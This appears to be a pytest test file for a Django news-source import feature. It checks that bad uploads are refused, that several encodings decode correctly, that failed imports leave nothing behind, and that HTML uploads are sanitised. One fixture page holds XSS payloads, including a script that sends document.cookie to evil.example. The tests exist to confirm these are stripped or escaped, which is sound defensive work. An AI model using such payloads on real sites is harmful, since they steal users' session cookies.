"""Bad uploads get a clear message in the admin and on the command line; nothing is
half-written; nothing in them runs; the text of every encoding we accept comes out right."""

import codecs
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from claims.ingest import IngestError
from claims.models import Discrepancy, Figure, Mention, Source, SourceRevision
from claims.services import imports
from claims.services.imports import SourceInput, import_source
from tests.admin_forms import admin_post_data
from tests.factories import make_source

pytestmark = pytest.mark.django_db

LIMIT = 4096
RUSSIAN = (
    "Президент Казахстана Касым-Жомарт Токаев прибыл в Пекин с государственным визитом. "
    "По словам министра, подписано 55 соглашений, а ещё 51 проект находится в стадии реализации."
)
FRENCH = "Le café à Zürich a ouvert ses portes, et 12 clients sont venus dès l'aube. Garçon, crème brûlée!"
ENGLISH = "The ministry said on Monday that 12 new schools had opened in the region this year."

BAD_FILES = {
    "empty": ("empty.txt", b"", "file is empty."),  # the admin's file field says it first
    "only blanks": ("blank.txt", b"  \n\t\n ", "The file is empty."),
    "only a byte-order mark": ("bom.txt", codecs.BOM_UTF16_LE, "The file is empty."),
    "an image": ("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00" + bytes(range(256)), "binary file"),
    "control characters": ("noise.txt", bytes(range(1, 9)) * 200, "binary file"),
    "too large": ("huge.txt", b"12 schools opened. " * (LIMIT // 10), "the desk takes at most 4,096"),
    "two encodings": ("mixed.txt", (RUSSIAN + "\n").encode() + (RUSSIAN + "\n").encode("cp1251"), "Part of this file is UTF-8"),
    "a false byte-order mark": ("liar.txt", codecs.BOM_UTF16_LE + b"\x00\xd8\x41", "byte-order mark but is not UTF-16"),
    "a page with no article": (
        "empty.html", b"<html><head><title>T</title></head><body><script>alert('x')</script><div></div></body></html>", "No article text was found"
    ),
}

GOOD_FILES = {
    "Windows-1251 Cyrillic": ("ru.txt", RUSSIAN.encode("cp1251"), RUSSIAN),
    "latin-1": ("fr.txt", FRENCH.encode("latin-1"), FRENCH),
    "UTF-16 with a byte-order mark": ("ru16.txt", RUSSIAN.encode("utf-16"), RUSSIAN),
    "UTF-16 big-endian with a byte-order mark": ("ru16be.txt", codecs.BOM_UTF16_BE + RUSSIAN.encode("utf-16-be"), RUSSIAN),
    "UTF-8 with a byte-order mark": ("ru8.txt", codecs.BOM_UTF8 + RUSSIAN.encode(), RUSSIAN),
    "Windows line ends": ("crlf.txt", (ENGLISH + "\r\n" + FRENCH + "\r\n").encode("utf-8"), ENGLISH + "\n" + FRENCH),
}

HOSTILE_PAGE = b"""<!doctype html><html><head><title>Schools report</title>
<script>fetch('https://evil.example/?c=' + document.cookie)</script></head>
<body><article><h1>Schools report</h1>
<p>The ministry said on Monday that 12 new schools had opened in the region this year, more than planned.</p>
<p>Officials in Almaty expect the programme to continue, with 5 more schools planned for next year.</p>
<p>The report quoted a reader who typed &lt;script&gt;alert(2)&lt;/script&gt; into the comments form.</p>
<img src="x.png" onerror="alert(3)"><a href="javascript:alert(4)">more</a>
<script>alert(1)</script></article></body></html>"""


@pytest.fixture(autouse=True)
def _small_limit(settings):
    settings.IMPORT_MAX_BYTES = LIMIT


def table_counts():
    return {
        model.__name__: model.objects.count()
        for model in (Source, SourceRevision, Mention, Figure, Discrepancy, Source.history.model)
    }


def upload(client, name, data, publisher="Upload Herald"):
    add = reverse("admin:claims_source_add")
    form = admin_post_data(client.get(add), {"publisher": publisher, "language": "en", "text": ""})
    form["upload"] = SimpleUploadedFile(name, data)
    return client.post(add, form, follow=True)


def import_file(tmp_path, name, data, publisher="Upload Herald"):
    path = tmp_path / name
    path.write_bytes(data)
    out, err = StringIO(), StringIO()
    try:
        call_command("import_source", str(path), "--publisher", publisher, stdout=out, stderr=err)
    except CommandError as error:
        return out.getvalue(), err.getvalue(), error
    return out.getvalue(), err.getvalue(), None


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_upload_is_refused_in_the_admin_with_a_message_and_nothing_written(client, editor, case):
    name, data, message = BAD_FILES[case]
    make_source()  # a desk with something on it already
    before = table_counts()
    client.force_login(editor)
    response = upload(client, name, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert table_counts() == before


@pytest.mark.parametrize("case", BAD_FILES)
def test_a_bad_file_is_refused_on_the_command_line_with_a_message_and_nothing_written(tmp_path, case):
    name, data, message = BAD_FILES[case]
    make_source()
    before = table_counts()
    out, err, error = import_file(tmp_path, name, data)
    assert error is not None and "Nothing was imported" in str(error)
    assert message in err
    assert table_counts() == before


def test_the_command_imports_the_good_files_and_reports_the_bad_ones(tmp_path):
    good, bad = tmp_path / "good.txt", tmp_path / "bad.txt"
    good.write_bytes(ENGLISH.encode())
    bad.write_bytes(b"\x00\x01binary")
    out, err = StringIO(), StringIO()
    call_command("import_source", str(good), str(bad), "--publisher", "Mixed Bag", stdout=out, stderr=err)
    assert "1 created" in out.getvalue() and "1 failed" in out.getvalue()
    assert "binary file" in err.getvalue()
    assert Source.objects.get(publisher="Mixed Bag").text == ENGLISH


@pytest.mark.parametrize("case", GOOD_FILES)
def test_text_in_every_accepted_encoding_is_stored_exactly(client, editor, tmp_path, case):
    name, data, text = GOOD_FILES[case]
    client.force_login(editor)
    upload(client, name, data, publisher="Admin Upload")
    assert Source.objects.get(publisher="Admin Upload").text == text
    import_file(tmp_path, name, data, publisher="Command Import")
    assert Source.objects.get(publisher="Command Import").text == text


def test_an_import_that_fails_half_way_leaves_nothing_behind(monkeypatch):
    make_source()
    before = table_counts()
    real = imports.analyse_source

    def analyse_then_crash(source):
        real(source)  # mentions, figures and flags are written...
        raise RuntimeError("the worker died here")  # ...and then the import fails

    monkeypatch.setattr(imports, "analyse_source", analyse_then_crash)
    with pytest.raises(RuntimeError):
        import_source(SourceInput(text=ENGLISH + " Officials in Almaty agreed.", publisher="Crash Courier"))
    assert table_counts() == before


def test_scripts_in_an_uploaded_page_are_not_stored(client, editor):
    client.force_login(editor)
    upload(client, "report.html", HOSTILE_PAGE, publisher="Hostile Herald")
    source = Source.objects.get(publisher="Hostile Herald")
    assert "12 new schools had opened" in source.text
    for script in ("document.cookie", "alert(1)", "alert(3)", "alert(4)", "onerror", "javascript:"):
        assert script not in source.text


def test_what_looks_like_markup_in_a_sources_text_is_shown_escaped(client, editor):
    client.force_login(editor)
    upload(client, "report.html", HOSTILE_PAGE, publisher="Hostile Herald")
    source = Source.objects.get(publisher="Hostile Herald")
    assert "<script>alert(2)</script>" in source.text  # the reader's words, kept as text
    for url in (source.get_absolute_url(), reverse("admin:claims_source_change", args=[source.pk])):
        page = client.get(url).content.decode()
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page
        assert "<script>alert(2)" not in page


def test_pasted_text_with_markup_is_stored_as_text_and_shown_escaped(client, editor):
    pasted = ENGLISH + ' <img src=x onerror="alert(5)"> <b>bold</b>'
    source = make_source(pasted, publisher="Paste Post")
    assert source.text == pasted
    page = client.get(source.get_absolute_url()).content.decode()
    assert "&lt;img src=x onerror=&quot;alert(5)&quot;&gt;" in page
    assert "<img src=x" not in page and "<b>bold</b>" not in page


def test_decode_errors_are_ingest_errors_not_crashes():
    from claims.ingest.decoding import decode_bytes

    for _, data, message in BAD_FILES.values():
        if data.startswith(b"<html"):
            continue
        with pytest.raises(IngestError, match=message.split(" 4,096")[0]):
            decode_bytes(data, max_bytes=LIMIT)


def test_a_nul_character_deep_in_a_long_file_is_refused_not_sent_to_the_database(client, editor, settings, tmp_path):
    # PostgreSQL refuses NUL in text; a check of the first few kilobytes alone would let it through.
    settings.IMPORT_MAX_BYTES = 100_000
    data = (ENGLISH + "\n").encode() * 200 + b"\x00 and more text after it."
    client.force_login(editor)
    assert "binary file" in upload(client, "long.txt", data).content.decode()
    assert "binary file" in import_file(tmp_path, "long.txt", data)[1]
    assert not Source.objects.exists()
